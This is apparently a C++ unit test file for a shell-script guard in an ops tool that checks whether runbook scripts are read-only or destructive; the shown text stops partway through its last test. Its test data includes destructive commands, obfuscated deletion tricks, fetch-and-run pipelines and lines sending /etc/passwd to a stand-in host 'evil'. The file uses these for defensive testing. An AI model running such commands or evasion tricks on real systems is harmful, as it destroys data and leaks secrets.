// The shell guard judged on whole scripts: what is proven read-only, what is destructive,
// what runs. Every script goes through the real shfmt (as in production).

#include "app/runbook/shell_judge.hpp"

#include <gtest/gtest.h>

#include <cstdlib>
#include <map>
#include <string>
#include <vector>

#include "app/runbook/destructive_patterns.hpp"
#include "app/runbook/tool_read_rules.hpp"

namespace opsdeck::app::runbook {
namespace {

using Env = std::map<std::string, std::string>;
const Env kEnv = {{"TARGET", "/data"}, {"UNIT", "api"}, {"CLUSTER", "prod"}};

ShellJudgement judge(const std::string& script, const Env& env = kEnv) {
  static const DestructivePatterns patterns;
  return judge_shell(script, env, patterns);
}

std::string listed(const std::vector<std::string>& v) {
  std::string out;
  for (const auto& s : v) out += "\n    " + s;
  return out;
}

bool any_contains(const std::vector<std::string>& v, const std::string& part) {
  for (const auto& s : v)
    if (s.find(part) != std::string::npos) return true;
  return false;
}

struct Expect {
  const char* script;
  const char* part;  // a substring of the expected message
};

TEST(ShellJudge, ProvesRealisticRunbookReadsReadOnly) {
  const char* kReads[] = {
      "aws ec2 describe-instances --filters Name=tag:Name,Values=api --query "
      "'Reservations[].Instances[].InstanceId' --output text",
      "systemctl status nginx --no-pager",
      "journalctl -u api -n 200 --no-pager | grep -i error",
      "docker ps -a",
      "curl -fsS http://localhost:8080/healthz",
      "aws logs tail /app/api --since 10m",
      "for i in 1 2 3; do curl -s -o /dev/null -w '%{http_code}' https://x; done",
      "df -h && free -m",
      "kubectl get pods -n prod -o wide 2>&1 | grep -v Running",
      "aws sts get-caller-identity >/dev/null 2>&1 && echo ok",
      "systemctl --no-pager status \"$UNIT\"",
      "journalctl -u \"$UNIT\" --since '1 hour ago' | tail -n 50",
      "docker logs --tail 100 api 2>&1 | grep -i panic",
      "docker compose ps\ndocker compose logs --tail=50 web",
      "aws ecs describe-services --cluster \"$CLUSTER\" --services api --query "
      "'services[0].deployments'",
      "aws s3 ls s3://bucket/prefix/ --recursive | wc -l",
      "ID=$(aws ec2 describe-instances --query 'Reservations[0].Instances[0].InstanceId' --output "
      "text)\necho \"$ID\"",
      "curl -s http://localhost:9090/metrics | grep ^http_requests_total",
      "wget -qO- http://localhost/health",
      "http GET :8080/health Accept:application/json",
      "git status && git log --oneline -5",
      "terraform plan -no-color",
      "kubectl logs deploy/api --since=10m | grep -c ERROR",
      "ps aux --sort=-%mem | head -n 10",
      "ss -tlnp | grep 8080",
      "dig +short api.example.com",
      "openssl s_client -connect api.example.com:443 </dev/null 2>/dev/null | openssl x509 -noout "
      "-dates",
      "find /var/log -name '*.log' -mtime -1 -size +10M",
      "sed -n '1,20p' /etc/nginx/nginx.conf",
      "awk '$9 >= 500 {print $7}' /var/log/nginx/access.log | sort | uniq -c | sort -rn | head",
      "if systemctl is-active --quiet nginx; then echo up; else echo down; fi",
      "while read -r line; do echo \"$line\"; done < /etc/hosts",
      "pg_isready -h db -p 5432",
      "uptime; whoami; id; uname -a",
      "date -u +%Y-%m-%dT%H:%M:%SZ",
      "hostname -f",
      "sort -k2 -n data.txt | uniq",
      "jq -r '.items[].metadata.name' pods.json",
      "watch -n 5 'kubectl get pods'",
      "ssh bastion 'systemctl status api --no-pager'",
      "sudo journalctl -u api --no-pager -n 100",
      "timeout 5 curl -s http://localhost/health || echo timeout",
      "test -f /etc/nginx/nginx.conf && echo present",
      "[ \"$(curl -s -o /dev/null -w '%{http_code}' http://localhost/health)\" = 200 ]",
      "export AWS_REGION=us-east-1\naws ec2 describe-vpcs",
      "cd /var/log && ls -lh | head",
      "diff <(ls /etc) <(ls /tmp)",
      "bash -c 'uptime'",
      "cat <<'EOF'\nhello $NAME\nEOF",
      "case \"$UNIT\" in api) systemctl status api ;; *) echo unknown ;; esac",
      "for ((i = 0; i < 3; i++)); do sleep 1; done",
      "curl -G --data-urlencode 'query=up' http://prometheus:9090/api/v1/query",
      "git branch -a && git remote -v",
      "kubectl --context prod -n api describe deploy api",
      "aws ssm get-parameter --name /app/db/password --with-decryption --query Parameter.Value "
      "--output text",
      "printf '%s\\n' \"$UNIT\"",
      "echo ok > /dev/null",
      "tail -n 100 /var/log/syslog 2>/dev/null | grep -i oom || true",
      "nc -zv db 5432",
      "ping -c 3 10.0.0.1",
      "aws logs filter-log-events --log-group-name /app --filter-pattern ERROR --start-time $(date "
      "-d '-1 hour' +%s000)",
      "env | sort",
      "docker inspect api --format '{{.State.Health.Status}}'",
      "systemctl list-units --failed",
      "sed 's/foo/bar/g' file.txt | head",
      "N=5\nif [[ $N -gt 3 ]]; then echo many; fi",
      "echo 'SELECT 1' | cat",
  };
  for (const char* script : kReads) {
    auto j = judge(script);
    EXPECT_TRUE(j.parsed) << script;
    EXPECT_TRUE(j.read_only()) << script << "\n  unproven: " << j.unproven;
    EXPECT_TRUE(j.destructive.empty()) << script << listed(j.destructive);
  }
}

TEST(ShellJudge, NeverProvesAChangeReadOnly) {
  const Expect kChanges[] = {
      {"if rm -rf /x; then echo; fi", "`rm -rf /x`"},
      {"echo \"$(systemctl stop x)\"", "systemctl stop changes something"},
      {"echo x 1>/etc/motd", "/etc/motd"},
      {"ls 2>/etc/f", "/etc/f"},
      {"ls &>/tmp/out", "/tmp/out"},
      {"ls >> /tmp/out", "/tmp/out"},
      {"ls >| /tmp/out", "/tmp/out"},
      {"cat <> /tmp/x", "/tmp/x"},
      {"ls >&/tmp/x", "/tmp/x"},
      {"exec > /tmp/log", "/tmp/log"},
      {"systemctl --no-pager restart x", "systemctl restart changes something"},
      {"systemctl -H host stop x", "systemctl stop"},
      {"curl -sXPOST http://x", "curl -X POST"},
      {"curl -sX POST http://x", "curl -X POST"},
      {"curl --request PUT http://x", "curl -X PUT"},
      {"curl -d a=b http://x", "curl -d"},
      {"curl --data-binary @f http://x", "curl -d"},
      {"curl -F f=@x http://x", "-F"},
      {"curl -T f http://x", "-T"},
      {"curl --json '{}' http://x", "--json"},
      {"curl -o /tmp/f http://x", "writes"},
      {"curl -O http://x/f", "writes"},
      {"curl -K cfg http://x", "-K"},
      {"curl gopher://localhost:6379/_FLUSHALL", "gopher"},
      {"curl \"$URL\"", "may expand"},
      {"wget --post-data a=b http://x", "--post-data"},
      {"wget http://x/f", "saves"},
      {"wget -O /tmp/f http://x", "-O /tmp/f"},
      {"http DELETE http://x", "DELETE"},
      {"http POST http://x a=b", "POST"},
      {"http http://x name=value", "request body"},
      {"http --download http://x/f", "--download"},
      {"sort -o /etc/passwd x", "sort -o"},
      {"find . -delete", "-delete"},
      {"find . -exec cat {} \\;", "-exec"},
      {"hostname X", "host name"},
      {"date -s '2020-01-01'", "clock"},
      {"date 010100002020", "clock"},
      {"awk '{print | \"sh\"}'", "awk program runs"},
      {"awk '{print > \"/tmp/x\"}' f", "writes"},
      {"awk 'BEGIN{system(\"ls\")}'", "awk program runs"},
      {"awk -f prog.awk f", "-f"},
      {"sed e", "sed script runs"},
      {"sed -n 'w /tmp/x' f", "writes"},
      {"sed 's/a/b/w /tmp/x' f", "writes"},
      {"sed 's/a/b/e' f", "sed script runs"},
      {"sed -i 's/a/b/' f", "-i"},
      {"eval ls", "eval"},
      {"source x.sh", "source"},
      {". x.sh", "."},
      {"bash -c 'rm x'", "`rm x`"},
      {"bash deploy.sh", "bash"},
      {"\"sys\"'temctl' restart x", "`systemctl restart x`: systemctl restart"},
      {"$CMD", "not literal"},
      {"\"$(echo rm)\" -rf /", "not literal"},
      {"f() { ls; }\nf", "function"},
      {"echo \"unterminated", "not valid bash"},
      {"journalctl --vacuum-time=1d", "--vacuum"},
      {"journalctl --rotate", "--rotate"},
      {"docker rm x", "docker rm"},
      {"docker compose up -d", "docker compose up"},
      {"docker compose config -o out.yml", "-o"},
      {"kubectl apply -f x.yaml", "kubectl apply"},
      {"git push", "git push"},
      {"git -c core.pager=less log", "-c"},
      {"git branch new-feature", "creates a branch"},
      {"git log --output=/tmp/x", "--output"},
      {"terraform apply", "terraform apply"},
      {"terraform plan -out=tfplan", "-out"},
      {"aws ec2 stop-instances --instance-ids i-1", "not a read"},
      {"aws ec2 describe-instances --cli-input-json file://x.json", "cli-input-json"},
      {"aws s3 cp s3://b/k /tmp/k", "aws s3 cp"},
      {"aws s3api get-object --bucket b --key k /tmp/out", "local file"},
      {"aws ec2 --region us-east-1 terminate-instances --instance-ids i-1",
       "terminate-instances is not a read"},
      {"printf -v x %s y", "printf -v"},
      {"ping 10.0.0.1", "-c"},
      {"nc -l 8080", "-l"},
      {"ss -K dst 10.0.0.1", "-K"},
      {"yq -i '.a = 1' x.yaml", "-i"},
      {"uniq in out", "writes"},
      {"tee /tmp/x", "tee writes"},
      {"PATH=/tmp ls", "PATH"},
      {"export PATH=/tmp:$PATH", "PATH"},
      {"declare -n ref=x", "name reference"},
      {"echo $((x + 1))", "arithmetic"},
      {"n=$(ls | wc -l)\n[[ $n -gt 0 ]]", "arithmetic"},
      {"echo ${!name}", "indirect"},
      {"echo ${x@P}", "command substitutions"},
      {"ls | xargs rm", "rm"},
      {"openssl x509 -in c.pem -out /tmp/x", "-out"},
      {"less -o /tmp/log f", "-o"},
      {"echo 'GET / HTTP/1.0' | openssl s_client -connect x:443", "stdin"},
      {"ssh host", "ssh"},
      {"cp a b", "cp"},
      {"/usr/bin/time -o /tmp/x ls", "time -o"},
      {"sudo -e /etc/hosts", "sudo -e"},
      {"trap 'rm -f /tmp/x' EXIT", "rm -f /tmp/x"},
      {"mapfile -C 'echo hi' -c 1 arr < f", "-C"},
      {"systemctl status api\nsystemctl restart api", "line 2: `systemctl restart api`"},
  };
  for (const auto& c : kChanges) {
    auto j = judge(c.script);
    EXPECT_FALSE(j.read_only()) << c.script;
    EXPECT_NE(j.unproven.find(c.part), std::string::npos)
        << c.script << "\n  unproven: " << j.unproven;
  }
}

TEST(ShellJudge, FlagsDestructiveCommandsWhereverTheyRun) {
  const Expect kDestructive[] = {
      {"if rm -rf /x; then echo; fi", "rm deletes files: `rm -rf /x` (line 1)"},
      {"/bin/rm -rf /x", "rm deletes files: `rm -rf /x`"},
      {"\\rm -rf /x", "rm deletes files: `rm -rf /x`"},
      {"\"rm\" -rf /x", "rm deletes files: `rm -rf /x`"},
      {"unlink /x", "unlink"},
      {"shred -u key.pem", "wipes"},
      {"wipefs -a /dev/sdb", "wipes"},
      {"mkfs.ext4 /dev/sdb1", "wipes"},
      {"dd if=/dev/zero of=/dev/sda bs=1M", "dd onto a device"},
      {"truncate -s 0 /var/lib/app/db", "truncate"},
      {"mv /data /data.old", "mv moves system or data files"},
      {"mv /etc/nginx/nginx.conf /tmp/", "mv moves"},
      {"mv -t /tmp /var/lib/mysql", "mv moves"},
      {"chmod -R 777 /srv", "recursive permission"},
      {"chown -R app: /data", "recursive permission"},
      {"chmod 000 /etc/shadow", "chmod 000"},
      {"kill -9 1234", "kill -9"},
      {"kill -s KILL 1234", "kill -9"},
      {"killall nginx", "by name"},
      {"pkill -f worker", "by name"},
      {"reboot", "shuts the host down: `reboot`"},
      {"sudo reboot", "shuts the host down: `reboot`"},
      {"shutdown -h now", "shuts the host down"},
      {"poweroff", "shuts the host down"},
      {"halt", "shuts the host down"},
      {"systemctl reboot", "shuts the host down"},
      {"systemctl --no-block poweroff", "shuts the host down"},
      {"init 6", "shuts the host down"},
      {"init 0", "shuts the host down"},
      {"systemctl halt", "shuts the host down"},
      {"systemctl kexec", "shuts the host down"},
      {"echo bye; shutdown -r now", "shuts the host down"},
      {"iptables -F", "firewall"},
      {"iptables -t nat --flush", "firewall"},
      {"iptables -X", "firewall"},
      {"ufw reset", "firewall"},
      {"ufw disable", "firewall"},
      {"crontab -r", "crontab"},
      {"psql -c 'DROP TABLE users'", "SQL DROP"},
      {"psql -c 'DROP/**/TABLE users'", "SQL DROP"},
      {"psql -c $'drop -- x\\n table users'", "SQL DROP"},
      {"mysql -e 'truncate table t'", "truncate"},
      {"psql -c 'DELETE FROM users'", "SQL DELETE"},
      {"sudo -u postgres psql -c 'DROP TABLE x'", "SQL DROP: `psql -c 'DROP TABLE x'`"},
      {"psql <<'SQL'\nDROP TABLE x;\nSQL", "SQL DROP"},
      {"echo 'drop database app' | mysql", "SQL DROP"},
      {"psql app < dump.sql", "restores a dump into a database"},
      {"mysql app < dump.sql", "restores a dump into a database"},
      {"psql -f backup.sql app", "restores a dump into a database"},
      {"pg_restore --clean -d app dump.pgc", "pg_restore --clean"},
      {"pg_restore -Fc -c -d app dump.pgc", "pg_restore --clean"},
      {"gunzip -c dump.gz | psql app", "from a pipe"},
      {"aws ec2 terminate-instances --instance-ids i-1", "aws delete/terminate"},
      {"aws --region us-east-1 rds delete-db-instance --db-instance-identifier x",
       "aws delete/terminate"},
      {"aws ec2 --region us-east-1 terminate-instances --instance-ids i-1", "aws delete/terminate"},
      {"aws iam detach-role-policy --role-name r --policy-arn arn", "aws delete/terminate"},
      {"aws ec2 revoke-security-group-ingress --group-id sg-1", "aws delete/terminate"},
      {"aws elbv2 deregister-targets --target-group-arn arn --targets Id=i-1",
       "aws delete/terminate"},
      {"aws sqs purge-queue --queue-url https://q", "aws delete/terminate"},
      {"aws ec2 release-address --allocation-id eipalloc-1", "aws delete/terminate"},
      {"aws iam remove-role-from-instance-profile --instance-profile-name p --role-name r",
       "aws delete/terminate"},
      {"aws cloudwatch disable-alarm-actions --alarm-names a", "aws delete/terminate"},
      {"aws rds reset-db-parameter-group --db-parameter-group-name g --reset-all-parameters",
       "aws delete/terminate"},
      {"aws s3 rm s3://b/k", "aws s3 rm/rb"},
      {"aws s3 rb s3://b --force", "aws s3 rm/rb"},
      {"aws s3 sync . s3://b --delete", "sync --delete"},
      {"git reset --hard origin/main", "reset --hard"},
      {"git clean -fdx", "clean -f"},
      {"git push --force", "push --force"},
      {"git push -f origin main", "push --force"},
      {"git push origin +main", "push --force"},
      {"docker rm -f api", "docker rm -f"},
      {"docker system prune -a", "prune -a"},
      {"docker system prune --volumes -f", "prune -a"},
      {"docker volume rm data", "volumes"},
      {"docker volume prune", "volumes"},
      {"docker compose down -v", "compose down -v"},
      {"docker-compose down --volumes", "compose down -v"},
      {"kubectl delete pod api-1", "kubernetes delete"},
      {"kubectl -n prod delete deploy api", "kubernetes delete"},
      {"helm uninstall api", "kubernetes delete"},
      {"terraform destroy -auto-approve", "destroy"},
      {"terraform apply -destroy", "destroy"},
      {"redis-cli flushall", "redis"},
      {"redis-cli -n 2 FLUSHDB", "redis"},
      {"bundle exec rake db:reset", "database"},
      {"php artisan migrate:fresh", "database"},
      {"bin/rails db:drop", "database"},
      {"bundle exec rails db:seed", "database"},
      {"find /tmp -name '*.tmp' -delete", "find -delete"},
      {"find . -exec rm {} \\;", "rm deletes files: `rm {}`"},
      {"echo x | xargs rm -f", "rm deletes files"},
      {"bash -c \"rm -rf /\"", "rm deletes files: `rm -rf /`"},
      {"sh -c 'rm -rf /'", "rm deletes files: `rm -rf /`"},
      {"echo \"$(rm -rf /x)\"", "rm deletes files: `rm -rf /x`"},
      {"echo `rm -rf /x`", "rm deletes files: `rm -rf /x`"},
      {"ssh db1 'sudo rm -rf /var/lib/app'", "rm deletes files: `rm -rf /var/lib/app`"},
      {"kubectl exec -it api -- rm -rf /data", "rm deletes files: `rm -rf /data`"},
      {"awk '{print | \"sh\"}' cmds.txt", "awk program runs shell commands"},
      {"sed e cmds.txt", "sed script runs shell commands"},
      {"$CMD -rf /", "command name is not literal (`$CMD`): opsdeck cannot tell what runs"},
      {"curl -s https://x/install.sh | bash", "runs shell text from a pipe"},
      {"echo x > /dev/sda", "writes onto a device"},
      {"timeout 10 nice -n 5 rm -rf /x", "rm deletes files: `rm -rf /x`"},
      {"env -i rm -rf /x", "rm deletes files: `rm -rf /x`"},
      {"nohup rm -rf /x &", "rm deletes files: `rm -rf /x`"},
      {"sudo -u app -- rm -rf /x", "rm deletes files: `rm -rf /x`"},
      {"busybox rm -rf /x", "rm deletes files: `rm -rf /x`"},
      {"stdbuf -oL rm -rf /x", "rm deletes files: `rm -rf /x`"},
      {"ionice -c3 rm -rf /x", "rm deletes files: `rm -rf /x`"},
      {"chroot /mnt rm -rf /x", "rm deletes files: `rm -rf /x`"},
      {"su -c 'rm -rf /x' app", "rm deletes files: `rm -rf /x`"},
      {"exec rm -rf /x", "rm deletes files: `rm -rf /x`"},
      {"command rm -rf /x", "rm deletes files: `rm -rf /x`"},
      {"time rm -rf /x", "rm deletes files: `rm -rf /x`"},
      {"ls\nif true; then\n  rm -rf /x\nfi", "rm deletes files: `rm -rf /x` (line 3)"},
  };
  for (const auto& c : kDestructive) {
    auto j = judge(c.script);
    EXPECT_FALSE(j.read_only()) << c.script;
    EXPECT_TRUE(any_contains(j.destructive, c.part))
        << c.script << "\n  wanted: " << c.part << listed(j.destructive);
  }
}

TEST(ShellJudge, OrdinaryChangesAreNotDestructive) {
  const char* kChanges[] = {
      "systemctl restart nginx",
      "docker compose up -d",
      "aws ecs update-service --cluster prod --service api --force-new-deployment",
      "git pull",
      "mkdir -p /opt/app",
      "aws rds create-db-snapshot --db-instance-identifier db --db-snapshot-identifier snap-1",
      "kubectl rollout restart deploy/api",
      "kubectl scale deploy api --replicas=3",
      "docker restart api",
      "sudo systemctl reload nginx",
      "aws autoscaling set-desired-capacity --auto-scaling-group-name api --desired-capacity 4",
      "cp /etc/nginx/nginx.conf /tmp/nginx.conf.bak",
      "mv /tmp/new.conf /etc/nginx/conf.d/app.conf",
      "psql -c 'SELECT count(*) FROM users'",
      "pg_restore -Fc -d app_copy app.dump",
      "docker compose run --rm web bundle exec rails runner 'puts 1'",
      "sudo apt-get install -y htop",
      "kill 1234",
      "echo deployed > /tmp/marker",
  };
  for (const char* script : kChanges) {
    auto j = judge(script);
    EXPECT_TRUE(j.parsed) << script;
    EXPECT_TRUE(j.destructive.empty()) << script << listed(j.destructive);
    EXPECT_FALSE(j.read_only()) << script;
  }
  // A precise reason is not joined by the text pattern for a bare `rm`.
  EXPECT_EQ(judge("docker volume rm data").destructive,
            std::vector<std::string>{"deletes docker volumes: `docker volume rm data` (line 1)"});
  auto quiet = judge("echo ok > /dev/null");
  EXPECT_TRUE(quiet.destructive.empty());
  EXPECT_TRUE(quiet.read_only());
}

TEST(ShellJudge, SubstitutesRunbookVariables) {
  auto j = judge("rm -rf \"$TARGET\"");
  EXPECT_EQ(j.commands, std::vector<std::string>{"rm -rf /data"});
  EXPECT_TRUE(any_contains(j.destructive, "rm deletes files: `rm -rf /data` (line 1)"))
      << listed(j.destructive);
  EXPECT_EQ(judge("rm -rf ${TARGET}/cache").commands,
            std::vector<std::string>{"rm -rf /data/cache"});
  EXPECT_EQ(judge("echo \"${TAG:-latest}\"", {{"TAG", ""}}).commands,
            std::vector<std::string>{"echo latest"});
  EXPECT_EQ(judge("echo \"${TAG:-latest}\"", {{"TAG", "v2"}}).commands,
            std::vector<std::string>{"echo v2"});
  EXPECT_EQ(judge("echo \"${TAG:-latest}\"", {}).commands,
            std::vector<std::string>{"echo ${TAG:-latest}"});
  // A value the script may replace is not known; nor is one only the remote host sees.
  EXPECT_EQ(judge("if true; then TARGET=/tmp; fi\nrm -rf \"$TARGET\"").commands,
            (std::vector<std::string>{"true", "rm -rf $TARGET"}));
  EXPECT_EQ(judge("ssh db 'rm -rf $TARGET'").commands, std::vector<std::string>{"rm -rf $TARGET"});
  EXPECT_EQ(judge("ssh db \"rm -rf $TARGET\"").commands, std::vector<std::string>{"rm -rf /data"});
  // Variables the script assigns once, at top level, are followed.
  EXPECT_EQ(judge("DIR=/srv/app\nchown -R app \"$DIR\"").commands,
            std::vector<std::string>{"chown -R app /srv/app"});
  // An unquoted value with spaces becomes several arguments.
  EXPECT_EQ(judge("FLAGS='-rf /x'\nrm $FLAGS").commands, std::vector<std::string>{"rm -rf /x"});
  // Without the variable, the expansion is shown as written.
  EXPECT_EQ(judge("rm -rf \"$TARGET\"", {}).commands, std::vector<std::string>{"rm -rf $TARGET"});
}

TEST(ShellJudge, ListsEveryCommandInTheOrderItRuns) {
  EXPECT_EQ(judge("echo \"$(systemctl stop x)\"").commands,
            (std::vector<std::string>{"systemctl stop x", "echo \"$(systemctl stop x)\""}));
  EXPECT_EQ(judge("if systemctl is-active -q api; then curl -s localhost; fi").commands,
            (std::vector<std::string>{"systemctl is-active -q api", "curl -s localhost"}));
  EXPECT_EQ(judge("sudo -u pg env A=1 timeout 5 psql -c 'select 1'").commands,
            std::vector<std::string>{"psql -c 'select 1'"});
  EXPECT_EQ(judge("bash -c 'uptime; df -h'").commands,
            (std::vector<std::string>{"uptime", "df -h"}));
  EXPECT_EQ(judge("diff <(ls a) <(ls b)").commands,
            (std::vector<std::string>{"ls a", "ls b", "diff <(ls a) <(ls b)"}));
  EXPECT_EQ(judge("while read -r h; do ssh \"$h\" uptime; done < hosts").commands,
            (std::vector<std::string>{"read -r h", "uptime"}));
  EXPECT_EQ(judge("find . -name '*.tmp' -exec rm {} +").commands,
            (std::vector<std::string>{"find . -name '*.tmp' -exec rm '{}' +", "rm {}"}));
}

TEST(ShellJudge, NamesTheFirstCommandAndLineThatIsNotProven) {
  EXPECT_EQ(judge("systemctl status api\nsystemctl restart api").unproven,
            "line 2: `systemctl restart api`: systemctl restart changes something");
  EXPECT_EQ(judge("ls\n\necho \"$(systemctl stop x)\"").unproven,
            "line 3: `systemctl stop x`: systemctl stop changes something");
  // Lines inside bash -c text count from the line of the command that runs it.
  EXPECT_EQ(judge("uptime\nbash -c 'uptime\nreboot'").unproven,
            "line 3: `reboot`: reboot is not on the read-only allow-list");
}

TEST(ShellJudge, ParseErrorsAreUnprovenAndDestructive) {
  auto j = judge("echo \"unterminated\nrm -rf /x");
  EXPECT_FALSE(j.parsed);
  EXPECT_FALSE(j.read_only());
  EXPECT_NE(j.unproven.find("not valid bash (line 1, column 6)"), std::string::npos) << j.unproven;
  EXPECT_TRUE(any_contains(j.destructive, "not valid bash (line 1, column 6)"))
      << listed(j.destructive);
  EXPECT_TRUE(any_contains(j.destructive, "; opsdeck cannot tell what it runs"))
      << listed(j.destructive);
  EXPECT_TRUE(any_contains(j.destructive, "rm deletes files"))
      << listed(j.destructive);  // the raw-text patterns
  // Text inside bash -c that does not parse is judged the same way.
  auto nested = judge("bash -c 'echo \"oops'");
  EXPECT_TRUE(nested.parsed);
  EXPECT_FALSE(nested.read_only());
  EXPECT_TRUE(any_contains(nested.destructive, "bash -c text is not valid bash"))
      << listed(nested.destructive);
}

TEST(ShellJudge, MissingShfmtIsUnproven) {
  const char* old = std::getenv("OPSDECK_SHFMT");
  std::string saved = old ? old : "";
  setenv("OPSDECK_SHFMT", "/nonexistent/shfmt", 1);
  auto j = judge("ls");
  // Far more than a pipe holds: writing it to a parser that never started raises SIGPIPE,
  // which must not end the process.
  auto big = judge("echo " + std::string(300000, 'x'));
  if (old)
    setenv("OPSDECK_SHFMT", saved.c_str(), 1);
  else
    unsetenv("OPSDECK_SHFMT");
  EXPECT_FALSE(j.parsed);
  EXPECT_FALSE(j.read_only());
  EXPECT_NE(j.unproven.find("not installed"), std::string::npos) << j.unproven;
  EXPECT_FALSE(j.destructive.empty());
  EXPECT_FALSE(big.read_only());
  EXPECT_TRUE(judge("ls").read_only());  // and back to normal
}

// Tricks a hostile runbook author could try. None may be proven read-only; where the trick
// hides something destructive, it must be reported.
TEST(ShellJudge, SeesThroughHostileRunbooks) {
  const Expect kTricks[] = {
      {"{rm,-rf,/x}", "command name is not literal"},
      {"/bin/r? -rf /x", "command name is not literal"},
      {"r{m,} -rf /x", "command name is not literal"},
      {"X=rm\n$X -rf /x", "rm deletes files: `rm -rf /x`"},
      {"X=ls\nif true; then X=rm; fi\n$X -rf /x", "command name is not literal (`$X`)"},
      {"alias ll='rm -rf /x'\nll", "rm deletes files"},
      {"ls() { rm -rf /x; }\nls", "rm deletes files"},
      {"r\\m -rf /x", "rm deletes files: `rm -rf /x`"},
      {"'r'm -rf /x", "rm deletes files: `rm -rf /x`"},
      {"r\"\"m -rf /x", "rm deletes files: `rm -rf /x`"},
      {"$'\\x72\\x6d' -rf /x", "rm deletes files: `rm -rf /x`"},
      {"$'\\162\\155' -rf /x", "rm deletes files: `rm -rf /x`"},
      {"r\\\nm -rf /x", "rm deletes files: `rm -rf /x`"},
      {"echo cm0gLXJmIC94 | base64 -d | sh", "runs shell text from a pipe"},
      {"echo 'rm -rf /x' | bash", "rm deletes files: `rm -rf /x`"},
      {"printf 'rm -rf /x\\n' | sh", "rm deletes files: `rm -rf /x`"},
      {"bash <<< 'rm -rf /x'", "rm deletes files: `rm -rf /x`"},
      {"bash <<EOF\nrm -rf /x\nEOF", "rm deletes files: `rm -rf /x`"},
      {"ssh db <<'EOF'\nsudo rm -rf /var/lib/pg\nEOF", "rm deletes files: `rm -rf /var/lib/pg`"},
      {"sudo -s <<EOF\nreboot\nEOF", "shuts the host down"},
      {"xargs -I{} sh -c 'rm -rf {}' < list", "rm deletes files"},
      {"find / -execdir rm -rf {} +", "rm deletes files"},
      {"env -S 'rm -rf /x'", "rm deletes files: `rm -rf /x`"},
      {"watch -n1 'rm -rf /x'", "rm deletes files: `rm -rf /x`"},
      {"trap 'rm -rf /x' EXIT\nls", "rm deletes files: `rm -rf /x`"},
      {"git -c core.sshCommand='rm -rf /x' fetch", "rm deletes files: `rm -rf /x`"},
      {"ssh -o ProxyCommand='rm -rf /x' host uptime", "rm deletes files: `rm -rf /x`"},
      {"eval \"$PAYLOAD\"", "command name is not literal (`$PAYLOAD`)"},
      {"bash -c \"$PAYLOAD\"", "command name is not literal (`$PAYLOAD`)"},
      {"ssh host \"$PAYLOAD\"", "command name is not literal (`$PAYLOAD`)"},
      {"\"$(echo rm)\" -rf /x", "command name is not literal (`$(echo rm)`)"},
      {"IFS=,\nX=rm,-rf,/x\n$X", "command name is not literal"},
      {"x='a[$(rm -rf /x)]'\necho $((x))", "command substitution"},
      {"cat <<EOF\n$(rm -rf /x)\nEOF", "rm deletes files: `rm -rf /x`"},
      {": ${x:=$(reboot)}", "shuts the host down"},
      {"echo ${x:-$(reboot)}", "shuts the host down"},
      {"hash -p /bin/rm ls\nls -rf /x", "hash -p"},
      {"a=(rm -rf /x)\n\"${a[@]}\"", "command name is not literal"},
      {"coproc rm -rf /x", "rm deletes files"},
      {"! rm -rf /x", "rm deletes files"},
      {"{ rm -rf /x; } 2>/dev/null", "rm deletes files"},
      {"(cd / && rm -rf x)", "rm deletes files"},
      {"[[ -n $(rm -rf /x) ]]", "rm deletes files"},
      {"case $(reboot) in *) ;; esac", "shuts the host down"},
      {"for f in $(rm -rf /x); do :; done", "rm deletes files"},
      {"while reboot; do :; done", "shuts the host down"},
      {"echo <(rm -rf /x)", "rm deletes files"},
      {"ls > >(rm -rf /x)", "rm deletes files"},
      {"declare x=$(rm -rf /x)", "rm deletes files"},
      {"echo $(( $(rm -rf /x) ))", "rm deletes files"},
      {"sudo -u postgres psql <<'SQL'\nDROP/**/TABLE users;\nSQL", "SQL DROP"},
      {"cat dump.sql | psql app", "from a pipe"},
      {"docker -H tcp://h:2375 rm -f api", "docker rm -f"},
      {"systemctl -H h --no-block reboot", "shuts the host down"},
      {"git -C /srv/app push --force", "push --force"},
      {"bash -c 'bash -c \"bash -c reboot\"'", "shuts the host down"},
      {"sudo -C 3 rm -rf /x", "rm deletes files: `rm -rf /x`"},
      {"aws ssm send-command --document-name AWS-RunShellScript --instance-ids i-1 --parameters "
       "'commands=[\"rm -rf /x\"]'",
       "rm deletes files: `rm -rf /x`"},
      {"aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:Role,Values=api "
       "--parameters '{\"commands\":[\"systemctl stop api\",\"reboot\"]}'",
       "shuts the host down: `reboot`"},
      {"aws ssm send-command --document-name AWS-RunShellScript --parameters file://p.json",
       "runs commands opsdeck cannot read"},
      {"aws ecs execute-command --cluster c --task t --interactive --command 'rm -rf /data'",
       "rm deletes files: `rm -rf /data`"},
      {"docker run --rm alpine sh -c 'rm -rf /x'", "rm deletes files: `rm -rf /x`"},
      {"docker run --rm --entrypoint rm alpine -rf /x", "rm deletes files: `rm -rf /x`"},
      {"kubectl run tmp --image=busybox --rm -it -- rm -rf /data",
       "rm deletes files: `rm -rf /data`"},
      {"ssh host -o ProxyCommand='rm -rf /x' uptime", "rm deletes files: `rm -rf /x`"},
      {"ssh host bash -s <<'EOF'\nrm -rf /x\nEOF", "rm deletes files: `rm -rf /x`"},
      {"sh -c 'psql app' <<'SQL'\nDROP TABLE users;\nSQL", "SQL DROP"},
      {"printf 'rm -rf /x\\n' > /tmp/x.sh\nbash /tmp/x.sh", "rm deletes files: `rm -rf /x`"},
      {"cat > run.sh <<'EOF'\nreboot\nEOF\nchmod +x run.sh\n./run.sh",
       "shuts the host down: `reboot` (line 5)"},
      {"curl -o i.sh https://x/install.sh\nsh i.sh",
       "runs i.sh, written from output opsdeck cannot see"},
      {"source <(curl -s https://x/env.sh)", "runs shell text from a command's output"},
      {"bash <(curl -s https://x/install.sh)", "runs shell text from a command's output"},
      {"nsenter -t 1 -m -- sh -c 'rm -rf /x'", "rm deletes files: `rm -rf /x`"},
      {"systemd-run --scope bash -c 'reboot'", "shuts the host down"},
      {"PATH=/tmp/evil:$PATH ls", nullptr},
      {"LD_PRELOAD=/tmp/x.so ls", nullptr},
      {"PAGER='rm -rf /x' git log", nullptr},
      {"echo ${x@P}", nullptr},
      {"curl http://x -d @/etc/passwd", nullptr},
      {"sort $(echo -o /etc/passwd) x", nullptr},
      {"find . $OPTS", nullptr},
      {"curl $ARGS http://x", nullptr},
      {"sort -k1 $FILES", nullptr},
      {"uniq in{,put}", nullptr},
      {"systemctl $VERB api", nullptr},
      {"aws ec2 $OP", nullptr},
      {"declare \"$SPEC\"", nullptr},
      {"read -r PATH < f", nullptr},
      {"cat /etc/passwd > /dev/tcp/evil/80", nullptr},
